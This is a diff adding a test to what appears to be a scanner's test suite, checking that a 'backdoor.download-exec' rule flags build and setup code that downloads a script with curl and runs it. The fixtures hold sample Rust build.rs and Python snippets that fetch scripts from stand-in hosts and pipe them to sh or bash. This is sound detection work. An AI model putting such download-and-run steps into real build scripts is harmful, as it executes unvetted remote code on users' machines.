@@ -962,3 +962,27 @@ test('a token check whose failure handler calls a helper that answers with the u
     .replace('return this.fallback(token, err);', 'this.fallback(token, err);\n      throw err;');
   assert.deepEqual(rules('v.ts', near), []);
 });
+
+test('a script fetched by curl run as a program and then given to a shell is a download run (Rust build.rs, Python); one only unpacked is not', () => {
+  const rs = [
+    'fn fetch(out: &Path) {',
+    '    let script = out.join("boot.sh");',
+    '    let _ = Command::new("curl")',
+    '        .args(["-fsSL", "-o", script.to_str().unwrap(), "http://mirror.example.com/boot.sh"])',
+    '        .status();',
+    '    let _ = Command::new("sh").arg(&script).status();',
+    '}',
+  ].join('\n');
+  assert.ok(rules('build.rs', rs).includes('backdoor.download-exec:6'), rules('build.rs', rs).join());
+  const unpacked = rs
+    .replace('boot.sh"', 'src.tgz"')
+    .replace('Command::new("sh").arg(&script)', 'Command::new("tar").args(["xzf", script.to_str().unwrap()])');
+  assert.deepEqual(rules('build.rs', unpacked), []);
+  const py = [
+    'import subprocess',
+    'def prepare(path):',
+    '    subprocess.run(["curl", "-fsSL", "-o", path, "https://get.example.com/i.sh"], check=True)',
+    '    subprocess.run(["bash", path], check=True)',
+  ].join('\n');
+  assert.ok(rules('setup.py', py).includes('backdoor.download-exec:4'), rules('setup.py', py).join());
+});
